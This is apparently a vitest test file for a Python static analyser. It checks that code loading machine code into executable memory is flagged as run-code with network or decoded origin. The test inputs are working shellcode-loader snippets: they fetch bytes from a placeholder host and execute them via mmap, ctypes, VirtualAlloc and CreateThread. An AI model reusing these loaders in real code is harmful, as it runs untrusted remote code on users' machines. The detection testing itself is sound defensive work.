import { describe, expect, test } from 'vitest'
import { readPython } from '../testing.ts'

const runs = (code: string) => readPython({ 'a.py': code }).acts.filter(({ kind }) => kind === 'run-code')

const FETCH = 'import ctypes, mmap, requests\ncode = requests.get("https://x.invalid/k.bin").content\n'

describe('machine code', () => {
  test.each([
    [
      'a mapping that is written',
      'b = mmap.mmap(-1, len(code), prot=7)\nb.write(code)\nf = ctypes.CFUNCTYPE(ctypes.c_int)\nf(ctypes.addressof(ctypes.c_int.from_buffer(b)))()',
    ],
    [
      'a mapping by a slice',
      'b = mmap.mmap(-1, 4096, mmap.MAP_PRIVATE, mmap.PROT_EXEC)\nb[:len(code)] = code\np = ctypes.c_void_p.from_buffer(b)\nctypes.cast(ctypes.addressof(p), ctypes.CFUNCTYPE(None))()',
    ],
    [
      'memory that is copied to',
      'b = mmap.mmap(-1, 4096, prot=7)\na = ctypes.addressof(ctypes.c_char.from_buffer(b))\nctypes.memmove(a, code, len(code))\nctypes.PYFUNCTYPE(None)(a)()',
    ],
    ['a buffer', 'b = ctypes.create_string_buffer(code)\nctypes.CFUNCTYPE(None)(ctypes.addressof(b))()'],
    [
      'memory of Windows',
      'k = ctypes.windll.kernel32\nk.VirtualAlloc.restype = ctypes.c_void_p\np = k.VirtualAlloc(None, len(code), 0x3000, 0x40)\nctypes.memmove(p, code, len(code))\nctypes.WINFUNCTYPE(None)(p)()',
    ],
    [
      'a thread',
      'k = ctypes.windll.kernel32\np = k.VirtualAlloc(0, len(code), 0x3000, 0x40)\nctypes.memmove(p, code, len(code))\nk.CreateThread(0, 0, p, 0, 0, 0)',
    ],
  ])('%s that a server gave', (_, code) => {
    expect(runs(FETCH + code)).toMatchObject([{ origins: ['network'] }])
  })

  test('bytes that stand there encoded', () => {
    const code =
      'import ctypes, mmap, base64\nb = mmap.mmap(-1, 64, prot=7)\nb.write(base64.b64decode("kJCQwwAA"))\nctypes.CFUNCTYPE(None)(ctypes.addressof(ctypes.c_char.from_buffer(b)))()'
    expect(runs(code)).toMatchObject([{ origins: expect.arrayContaining(['decoded']) }])
  })

  test.each([
    ['a function of its own', 'def done(x): return 0\ncb = ctypes.CFUNCTYPE(ctypes.c_int)(done)'],
    ['a decorator', '@ctypes.CFUNCTYPE(ctypes.c_int)\ndef done(): return 0'],
    ['a function of a library', 'ctypes.CFUNCTYPE(ctypes.c_int)(("getpid", ctypes.CDLL(None)))()'],
    ['data in memory', 'b = mmap.mmap(-1, 4096)\nb.write(code)\nb.seek(0)\nprint(b.read())'],
    ['a structure', 'ctypes.cast(ctypes.create_string_buffer(code), ctypes.POINTER(ctypes.c_int))'],
  ])('%s is not', (_, code) => {
    expect(runs(FETCH + code)).toEqual([])
  })
})
